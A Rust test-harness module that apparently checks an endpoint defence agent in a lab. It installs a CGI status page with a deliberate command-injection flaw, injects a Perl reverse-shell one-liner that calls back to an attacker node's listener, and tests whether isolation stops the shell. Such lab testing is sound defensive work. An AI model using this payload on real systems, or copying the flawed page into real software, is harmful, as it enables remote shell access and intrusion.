//! A harmless attack: somebody runs commands on an endpoint through a flaw in a web page, and opens a
//! shell back to a listener on the outside host. It reads two facts and changes nothing.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};

use crate::lab::Node;
use crate::wait;

const SHELL_PORT: u16 = 4444;
/// Where the flawed page is.
pub(crate) const WEB_PORT: u16 = 8080;
const PATIENCE: Duration = Duration::from_secs(15);
const READ_SLICE: Duration = Duration::from_millis(200);

/// A status page that pings a host, and trusts its visitor with the host's name.
const PAGE: &str = r#"#!/usr/bin/python3
import os, subprocess, sys, urllib.parse
host = urllib.parse.parse_qs(os.environ["QUERY_STRING"]).get("host", ["localhost"])[0]
sys.stdout.write("Content-Type: text/plain\r\n\r\n")
sys.stdout.flush()
subprocess.run("ping -c 1 -W 1 " + host, shell=True)
"#;

/// The visitor's one line: connect, make the connection the shell's standard streams, become a shell.
fn payload(listener: &str) -> String {
    format!(
        "perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({SHELL_PORT},inet_aton(\"{listener}\")))&&\
         do{{open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh\",\"-i\")}}'"
    )
}

/// The shell, seen from the attacker's chair. There is none when the victim was cut off before the
/// shell could call.
pub struct Attack {
    shell: Option<TcpStream>,
}

impl Attack {
    /// Puts the flawed page on the victim. Part of the host's ordinary life: do it before the agent starts.
    pub fn prepare(victim: &Node) -> Result<()> {
        victim.write("/srv/www/cgi-bin/status", PAGE)?;
        victim.succeed(&["chmod", "755", "/srv/www/cgi-bin/status"])?;
        victim.succeed(&[
            "sh",
            "-c",
            &format!(
                "cd /srv/www && exec setsid -f python3 -m http.server --cgi {WEB_PORT} \
                 </dev/null >/var/log/web.log 2>&1"
            ),
        ])?;
        let address = SocketAddr::new(victim.address_v4().into(), WEB_PORT);
        victim.within_network(|| {
            wait::until("the web server's first answer", PATIENCE, || {
                Ok(Some(TcpStream::connect_timeout(&address, READ_SLICE)?))
            })
        })?;
        Ok(())
    }

    /// What an honest visitor does with the page.
    pub fn visit(visitor: &Node, victim: &Node) -> Result<()> {
        let mut page = request(visitor, victim, "host=127.0.0.1")?;
        let mut answer = String::new();
        page.read_to_string(&mut answer)?;
        ensure!(
            answer.contains("1 received"),
            "the status page said: {answer}"
        );
        Ok(())
    }

    /// Uses the flaw, and waits for the shell to call back, or for the victim to be cut off first.
    pub fn open(attacker: &Node, victim: &Node) -> Result<Self> {
        Self::open_unless(attacker, victim, || is_cut_off(victim))
    }

    /// The same, for a victim that is defended otherwise: `is_over` says when no call is to be expected any more.
    pub fn open_unless(
        attacker: &Node,
        victim: &Node,
        is_over: impl Fn() -> Result<bool>,
    ) -> Result<Self> {
        let listening = SocketAddr::new(attacker.address_v4().into(), SHELL_PORT);
        let listener = attacker.within_network(|| Ok(TcpListener::bind(listening)?))?;
        listener.set_nonblocking(true)?;
        let line = payload(&attacker.address_v4().to_string());
        let query = format!("host=127.0.0.1;{line}");
        drop(request(attacker, victim, &encode(&query))?);
        let shell = wait::until("the shell's call", PATIENCE, || match listener.accept() {
            Ok((shell, _)) => Ok(Some(Some(shell))),
            Err(_) if is_over()? => Ok(Some(None)),
            Err(error) => Err(error.into()),
        })?;
        if let Some(shell) = &shell {
            shell.set_nonblocking(false)?;
            shell.set_read_timeout(Some(READ_SLICE))?;
        }
        Ok(Self { shell })
    }

    /// Whether the attacker got a shell at all.
    pub fn has_shell(&self) -> bool {
        self.shell.is_some()
    }

    /// Types a line and reads until `expected` comes back; false when it does not within `limit`.
    pub fn ask(&mut self, line: &str, expected: &str, limit: Duration) -> Result<bool> {
        let Some(shell) = &mut self.shell else {
            return Ok(false);
        };
        if writeln!(shell, "{line}").is_err() {
            return Ok(false);
        }
        let deadline = Instant::now() + limit;
        let mut heard = Vec::new();
        let mut buffer = [0; 4096];
        while Instant::now() < deadline {
            match shell.read(&mut buffer) {
                Ok(0) => return Ok(false),
                Ok(count) => heard.extend_from_slice(&buffer[..count]),
                Err(error) if is_timeout(&error) => {}
                Err(_) => return Ok(false),
            }
            if String::from_utf8_lossy(&heard).contains(expected) {
                return Ok(true);
            }
        }
        Ok(false)
    }
}

/// Whether the node's own kernel holds an isolation.
pub fn is_cut_off(node: &Node) -> Result<bool> {
    let list = ["nft", "list", "table", "inet", "cordon"];
    Ok(node.exec(&list)?.status.success())
}

fn is_timeout(error: &std::io::Error) -> bool {
    use std::io::ErrorKind::{Interrupted, TimedOut, WouldBlock};
    matches!(error.kind(), WouldBlock | TimedOut | Interrupted)
}

fn request(visitor: &Node, victim: &Node, query: &str) -> Result<TcpStream> {
    let address = SocketAddr::new(victim.address_v4().into(), WEB_PORT);
    let mut page = visitor
        .within_network(|| Ok(TcpStream::connect_timeout(&address, PATIENCE)?))
        .with_context(|| format!("cannot reach the page of {}", victim.name()))?;
    page.set_read_timeout(Some(PATIENCE))?;
    write!(page, "GET /cgi-bin/status?{query} HTTP/1.0\r\n\r\n")?;
    if query.contains('%') {
        // The server reads the request on its own time; leaving early must not lose it.
        let keep = page.try_clone()?;
        thread::spawn(move || keep_reading(keep));
    }
    Ok(page)
}

fn keep_reading(mut page: TcpStream) {
    // The shell holds this connection too; it ends with the shell, and nobody needs the answer.
    drop(std::io::copy(&mut page, &mut std::io::sink()));
}

/// `name=value` as it is written in an address.
pub(crate) fn encode(query: &str) -> String {
    let (name, value) = query.split_once('=').unwrap_or((query, ""));
    let escaped: String = value
        .bytes()
        .map(|byte| {
            if byte.is_ascii_alphanumeric() {
                (byte as char).to_string()
            } else {
                format!("%{byte:02x}")
            }
        })
        .collect();
    format!("{name}={escaped}")
}
